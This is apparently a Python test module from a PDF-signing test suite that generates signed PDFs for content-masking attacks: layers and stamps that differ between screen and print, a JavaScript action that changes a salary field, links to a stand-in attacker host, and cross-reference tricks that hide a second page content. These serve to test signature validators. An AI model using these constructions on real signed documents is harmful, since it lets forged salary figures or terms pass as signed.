"""Content masking: one file, two meanings, depending on who reads it and for what.

All of it lay there when it was signed, and nothing changes afterwards: only two readings of the same bytes tell.
"""

import io
import re
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name
from pyhanko.pdf_utils import generic
from pyhanko.sign.fields import SigSeedSubFilter

from tests.signing import samples
from tests.signing.attacks.honest import _others
from tests.signing.attacks.workshop import variants

OTHER = b"BT /F1 12 Tf 100 600 Td (Gaji pokok Rp 9.000.000) Tj ET"
_COVER = b"1 g 0 0 310 60 re f 0 g BT /F1 12 Tf 10 20 Td (Rp 9.000.000) Tj ET"


def _opened() -> pikepdf.Pdf:
    return pikepdf.open(io.BytesIO(samples.letter()))


def _layer(*, screen: bool, paper: bool) -> bytes:
    """What a layer holds shows on the screen or on paper only (ISO 32000-1 §8.11.4.4)."""
    pdf = _opened()
    states = {True: Name.ON, False: Name.OFF}
    use = Dictionary(View=Dictionary(ViewState=states[screen]), Print=Dictionary(PrintState=states[paper]))
    layer = pdf.make_indirect(Dictionary(Type=Name.OCG, Name="Lapis", Usage=use))
    events = [Dictionary(Event=event, OCGs=[layer], Category=[event]) for event in (Name.View, Name.Print)]
    pdf.Root.OCProperties = Dictionary(OCGs=[layer], D=Dictionary(ON=[layer], AS=events))
    pdf.pages[0].Resources.Properties = Dictionary(A=layer)
    pdf.pages[0].contents_add(b"/OC /A BDC " + OTHER + b" EMC")
    return samples.save(pdf)


def _note(flags: int) -> bytes:
    pdf = _opened()
    look = pdf.make_stream(_COVER)
    look.stream_dict = Dictionary(
        Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 310, 60], Resources=pdf.pages[0].Resources
    )
    note = Dictionary(Type=Name.Annot, Subtype=Name.Stamp, F=flags, Rect=[90, 660, 400, 720], AP=Dictionary(N=look))
    pdf.pages[0].Annots = Array([pdf.make_indirect(note)])
    return samples.save(pdf)


def _drawn(entries: dict[str, Any], data: bytes = b"") -> bytes:
    """A picture or form with an entry that some readers follow and others do not."""
    pdf = _opened()
    part = pdf.make_stream(data)
    part.stream_dict = Dictionary(Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 310, 60])
    for key, value in entries.items():
        part[key] = value
    pdf.pages[0].Resources.XObject = Dictionary(X=part)
    pdf.pages[0].contents_add(b"q /X Do Q")
    return samples.save(pdf)


_FILE = Dictionary(Type=Name.Filespec, F="http://penyerang.example/lain.pdf")
MEANT = {
    "a layer for paper": _layer(screen=False, paper=True),
    "a layer for the screen": _layer(screen=True, paper=False),
    "a stamp on paper only": _note(4 | 32),
    "a stamp on the screen only": _note(0),
    "a stream that lies elsewhere": _drawn({"/F": _FILE}),
    "a page of another file": _drawn({"/Ref": Dictionary(F=_FILE, Page=0)}),
    "a picture that a print shop replaces": _drawn({"/OPI": Dictionary({"/2.0": Dictionary(F=_FILE)})}),
    "another picture for printing": _drawn({
        "/Subtype": Name.Image, "/Width": 1, "/Height": 1, "/BitsPerComponent": 8, "/ColorSpace": Name.DeviceGray,
        "/Alternates": Array([Dictionary(DefaultForPrinting=True, Image=Dictionary())]),
    }, b"\0"),
}  # fmt: skip
variants("masking", MEANT, lambda w, pdf: w.by_hand(w.seal, pdf, md_algorithm="sha256"), online=True)


def _with(change: Any) -> bytes:
    pdf = _opened()
    change(pdf)
    return samples.save(pdf)


def _note_that(**entries: Any) -> Any:
    note: dict[str, Any] = {"Type": Name.Annot, "Subtype": Name.Link, "Rect": [90, 660, 400, 720], "F": 4} | entries

    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].Annots = Array([pdf.make_indirect(Dictionary(**note))])

    return change


def _on_the_page(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].AA = Dictionary(O=_script())


def _among_the_names(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", pdf.make_indirect(_script())])))


def _in_a_folder(pdf: pikepdf.Pdf) -> None:
    """A portfolio: readers that know them show the other file first."""
    pdf.attachments["lain.pdf"] = samples.letter("KEPUTUSAN", "Gaji pokok Rp 9.000.000")
    pdf.Root.Collection = Dictionary(View=Name.D, D="lain.pdf")


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS="this.getField('gaji').value = 9")


def _field_with_a_script(pdf: pikepdf.Pdf) -> None:
    _note_that(Subtype=Name.Widget, FT=Name.Tx, T="gaji", V="3", AA=Dictionary(F=_script()))(pdf)
    pdf.Root.AcroForm = Dictionary(Fields=pdf.pages[0].Annots)


PLAYED = {
    "a script of the page": _on_the_page,
    "a script among the names": _among_the_names,
    "a script of a field": _field_with_a_script,
    "a click that hides": _note_that(A=Dictionary(S=Name.Hide, T="gaji")),
    "a click that turns layers": _note_that(A=Dictionary(S=Name.SetOCGState, State=Array([Name.Toggle]))),
    "a film over the text": _note_that(Subtype=Name.Screen),
    "another file in front of it": _in_a_folder,
}
variants(
    "masking, played",
    PLAYED,
    lambda w, change: w.by_hand(w.seal, _with(change), md_algorithm="sha256"),
    online=True,
)


class _Form(generic.DictionaryObject):
    """Keeps its wish; pyHanko would take it out before it signs, others do not."""

    def __delitem__(self, key: str) -> None:
        if key != "/NeedAppearances":
            super().__delitem__(key)


def _wishing(revision: Any) -> None:
    revision.root["/AcroForm"] = _Form(revision.root["/AcroForm"])
    revision.update_root()


def _field_left_to_readers(pdf: pikepdf.Pdf) -> None:
    """Its picture is empty; who draws it anew shows the value."""
    look = pdf.make_stream(b"")
    look.stream_dict = Dictionary(Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 310, 60])
    _note_that(Subtype=Name.Widget, FT=Name.Tx, T="gaji", V="Rp 9.000.000", AP=Dictionary(N=look))(pdf)
    pdf.Root.AcroForm = Dictionary(Fields=pdf.pages[0].Annots, NeedAppearances=True)


variants(
    "masking, redrawn",
    {"a field that each reader draws": _field_left_to_readers},
    lambda w, change: w.by_hand(w.seal, _with(change), _wishing, md_algorithm="sha256"),
    online=True,
)


def _content(pdf: bytes) -> int:
    found = re.search(rb"/Contents (\d+) 0 R", pdf)
    assert found
    return int(found[1])


def _stream(number: int, data: bytes = OTHER) -> bytes:
    return b"%d 0 obj\n<</Length %d>>\nstream\n%b\nendstream\nendobj\n" % (number, len(data), data)


def _plain() -> bytes:
    """Uncompressed, with a classic table at its end."""
    return samples.save(_opened())


def _shifted(pdf: bytes, at: int, piece: bytes) -> bytes:
    """*piece* at *at*; the places of the table follow."""
    table = pdf.rindex(b"\nxref") + 1
    moved = re.sub(
        rb"(\d{10})(?= \d{5} n)", lambda m: b"%010d" % (int(m[1]) + (int(m[1]) >= at) * len(piece)), pdf[table:]
    )
    moved = re.sub(rb"startxref\s+\d+", b"startxref\n%d" % (table + len(piece)), moved)
    return pdf[:at] + piece + pdf[at:table] + moved


def _before_table(pdf: bytes) -> int:
    return pdf.rindex(b"\nxref") + 1


def _twice(pdf: bytes) -> bytes:
    """The page's content again, in no table: who looks for objects finds the later one."""
    return _shifted(pdf, _before_table(pdf), _stream(_content(pdf)))


def _another_table(pdf: bytes) -> bytes:
    """A whole second revision that the last table does not lead to."""
    number, at = _content(pdf), _before_table(pdf)
    piece = _stream(number)
    table = b"xref\n%d 1\n%010d 00000 n \n" % (number, at)
    trailer = pdf[pdf.rindex(b"trailer") : pdf.rindex(b"startxref")]
    return _shifted(pdf, at, piece + table + trailer + b"startxref\n%d\n%%%%EOF\n" % (at + len(piece)))


def _remark_with_a_file(pdf: bytes) -> bytes:
    """Another document in front: who goes by the first header reads that one."""
    first = _plain().replace(b"3.000.000", b"9.000.000")
    return _shifted(pdf, 0, first)


def _mixed(pdf: bytes) -> bytes:
    """Table and cross-reference stream of a hybrid file name two contents for the page."""
    number, at = _content(pdf), _before_table(pdf)
    piece = _stream(number)
    rows = b"\x01" + at.to_bytes(3) + b"\0"
    made = b"%d 0 obj\n<</Type/XRef/Size %d/W[1 3 1]/Index[%d 1]/Length 5>>\nstream\n%b\nendstream\nendobj\n"
    size = int(re.findall(rb"/Size (\d+)", pdf)[-1])
    section = made % (size, size + 1, number, rows)
    out = _shifted(pdf, at, piece + section)
    trailer = out.rindex(b"trailer")
    said = b"/Size %d /XRefStm %d" % (size + 1, at + len(piece))
    return out[:trailer] + re.sub(rb"/Size \d+", said, out[trailer:])


def _longer_than_said(pdf: bytes) -> bytes:
    """The content ends where its length says, or where the word stands."""
    number = _content(pdf)
    at = pdf.index(b"endstream", pdf.index(b"\n%d 0 obj" % number))
    return _shifted(pdf, at, b"\n" + OTHER + b"\n")


def _pages_uncounted(pdf: bytes) -> bytes:
    with pikepdf.open(io.BytesIO(samples.letter("Halaman", pages=2))) as two:
        return samples.save(two).replace(b"/Count 2", b"/Count 1")


STRUCTURES = {
    "an object that is there twice": _twice,
    "a table that nothing leads to": _another_table,
    "another file in front": _remark_with_a_file,
    "a stream longer than it says": _longer_than_said,
    "more pages than are counted": _pages_uncounted,
}
variants(
    "masking, by a hybrid file",
    {"two cross-references that contradict each other": _mixed},
    lambda w, change: _others(w, SigSeedSubFilter.PADES, 1, pdf=change(_plain())),
    online=True,
)
variants(
    "masking, by structure",
    STRUCTURES,
    lambda w, change: w.by_hand(w.seal, change(_plain()), md_algorithm="sha256"),
    online=True,
)
